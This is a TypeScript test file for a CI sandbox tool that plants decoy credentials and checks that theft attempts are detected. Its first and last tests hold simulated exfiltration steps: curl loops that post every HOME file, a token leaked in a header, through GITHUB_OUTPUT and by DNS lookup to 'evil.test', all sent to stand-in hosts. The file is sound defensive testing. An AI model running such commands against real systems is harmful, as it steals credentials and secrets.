// SPDX-License-Identifier: Apache-2.0
// What is told of secrets: who read one for the first time, who named one that is not his, and who gathered credentials that nobody has a use for.
import assert from 'node:assert/strict'
import { readdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, before, test } from 'node:test'
import { Internet } from '../_internet/internet.ts'
import { type JsonRun, World } from '../_world.ts'

const world = new World()
let internet: Internet

before(async () => {
  internet = await Internet.start()
})
after(async () => {
  await internet[Symbol.asyncDispose]()
  await world[Symbol.asyncDispose]()
})

const TOKEN = 'npm_0123456789abcdefABCDEFghijklmnop'

const workflow = (steps: string): string => `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
${steps}`

const access = (grants: string): string => `version: 1
egress: [{ host: web.test, port: 443, methods: [GET, POST] }]
jobs: { build: { steps: { ${grants} } } }
secrets: { TOKEN: {} }
`

const run = (repository: string): Promise<JsonRun> =>
  world.runJson(repository, ['--config', internet.operatorFile(), '--secret', 'TOKEN'], { wrap: internet.wrap, env: { TOKEN } })

const rulesOf = ({ document }: JsonRun): readonly string[] => document.findings.map(({ rule }) => rule)

test('a step that posts every file of HOME to an allowed host sends no honeytoken, and is an incident', async () => {
  const steal = `
      - id: granted
        run: test -n "\${{ secrets.TOKEN }}"
      - id: thief
        run: |
          test -s ~/.npmrc.bak && test -s ~/.aws/credentials.old
          for file in $(find ~ -maxdepth 2 -type f); do curl -sS --data-binary @"$file" https://web.test/upload || true; done
          curl -sS -H "X-A: $(base64 -w0 ~/.npmrc.bak)" https://web.test/title || true
          echo "taken=$(cut -d= -f2 ~/.npmrc.bak)" >> "$GITHUB_OUTPUT"
          getent hosts "$(cut -d= -f2 ~/.npmrc.bak | tr -d '\\n').evil.test" || true
          cat ~/.npmrc.bak
      - run: curl -sSf -d nothing https://web.test/upload
`
  const ran = await run(world.workflow(workflow(steal), { 'sallyport.yml': access('granted: { secrets: { TOKEN: { deliver: env } } }') }))
  assert.equal(ran.exitCode, 0, ran.why)
  const used = ran.document.findings.filter(({ rule }) => rule === 'honeytoken-used')
  assert.ok(used.every(({ severity, job, step }) => severity === 'critical' && job === 'build' && step === '2'))
  assert.deepEqual(
    used.map(({ message }) => message.replace(/.*: /, '')).sort(),
    ['GET https://web.test/title', 'POST https://web.test/upload', 'a refused question or connection (no-rule)'].map((text) =>
      text.replace(/.*: /, ''),
    ),
  )
  const printed = ran.document.findings.filter(({ rule }) => rule === 'honeytoken-printed').map(({ message }) => message)
  assert.deepEqual(printed.sort(), [
    'a honeytoken of this job was printed',
    "a honeytoken of this job was written to the step's output file",
  ])
  assert.doesNotMatch(ran.stdout, /npm_[A-Za-z0-9]{36}|AKIA[A-Z2-7]{16}/, 'it shows nowhere')
  const events = ran.events.filter(({ type, data }) => type === 'secret.finding' && data['rule'] === 'honeytoken-used')
  assert.equal(events.length, used.length)
  const shown = await world.run(['runs', 'show', ran.document.id])
  assert.match(shown.stdout, /critical +honeytoken-used/)
  assert.equal(ran.output('build', '2').match(/^ *Sallyport refused POST/gm)?.length, 2, 'both files')
  // The head of a request is on its way before its body is read; one whose body did not come whole is not stored.
  const stored = ran.output('build', '2').match(/^stored$/gm)?.length ?? 0
  const whole = (await internet.arrivals()).filter(({ uri, status }) => uri === '/upload' && status === '200')
  assert.equal(whole.length, stored + 1, 'what else lies in HOME, and the last step')
})

test('a job that gets no secret has no honeytoken', async () => {
  const repository = world.workflow(workflow('      - run: test ! -e ~/.npmrc.bak && test ! -e ~/.aws'))
  const ran = await world.runJson(repository, ['--config', internet.operatorFile()], { wrap: internet.wrap })
  assert.equal(ran.exitCode, 0, ran.why)
  assert.deepEqual(ran.document.findings, [])
})

test('the first runs learn, then a new reader is told, and a damaged memory is said once and built anew', async () => {
  const first = `      - id: a\n        run: test -n "\${{ secrets.TOKEN }}"\n`
  const files = { 'sallyport.yml': access('a: { secrets: { TOKEN: { deliver: env } } }, b: { secrets: { TOKEN: { deliver: env } } }') }
  const repository = world.workflow(workflow(first), files)
  assert.deepEqual(rulesOf(await run(repository)), ['learning'])
  for (let runs = 1; runs < 3; runs++) assert.deepEqual(rulesOf(await run(repository)), [])
  const second = `      - id: b\n        run: test -n "\${{ secrets.TOKEN }}"\n      - run: test -z "\${{ secrets.TOKEN }}"\n`
  writeFileSync(join(repository, '.github/workflows/ci.yml'), workflow(first + second))
  const changed = await run(repository)
  assert.deepEqual(
    changed.document.findings.map(({ rule, step }) => [rule, step]),
    [
      ['first-time-reader', '2'],
      ['denied-probe', '3'],
    ],
  )
  const [name = ''] = readdirSync(join(world.state, 'secret-watch')).filter((entry) => entry.endsWith('.json'))
  for (const entry of readdirSync(join(world.state, 'secret-watch')))
    if (entry.endsWith('.json')) writeFileSync(join(world.state, 'secret-watch', entry), '{"version":1')
  assert.notEqual(name, '')
  const notices = ({ events }: JsonRun): number =>
    events.filter(({ type, data }) => type === 'run.notice' && /is damaged/.test(String(data['message']))).length
  const damaged = await run(repository)
  assert.equal(damaged.exitCode, 0)
  assert.equal(notices(damaged), 1)
  assert.equal(notices(await run(repository)), 0)
})

test('exec with a secret has honeytokens too, and tells of them', async () => {
  const script =
    'test -s ~/.npmrc.bak || exit 3; cat ~/.npmrc.bak; curl -sS -H "X-A: $(cut -d= -f2 ~/.npmrc.bak)" http://web.test/title || true'
  const options = [
    'exec',
    '--json',
    '--state',
    world.state,
    '--config',
    internet.operatorFile(),
    '--allow',
    'web.test:80',
    '--secret',
    'TOKEN',
  ]
  const ran = await world.start([...options, '--', 'bash', '-c', script], {
    wrap: internet.wrap,
    env: { TOKEN },
    cwd: world.repository({ a: 'a' }),
  }).result
  assert.equal(ran.exitCode, 0, ran.stderr)
  const logged = await world.run(['audit', 'show', '--type', 'secret.finding', '--json'])
  for (const rule of ['honeytoken-printed', 'honeytoken-used'])
    assert.match(logged.stdout, new RegExp(`"job":"exec"[^\\n]*"rule":"${rule}"|"rule":"${rule}"[^\\n]*"job":"exec"`), logged.stdout)
  assert.doesNotMatch(ran.stdout, /npm_[A-Za-z0-9]{36}/, 'it shows nowhere')
  const without = await world.start(['exec', '--json', '--state', world.state, '--', 'sh', '-c', 'test ! -e ~/.npmrc.bak'], {
    cwd: world.repository({ a: 'a' }),
  }).result
  assert.equal(without.exitCode, 0, without.stderr)
})
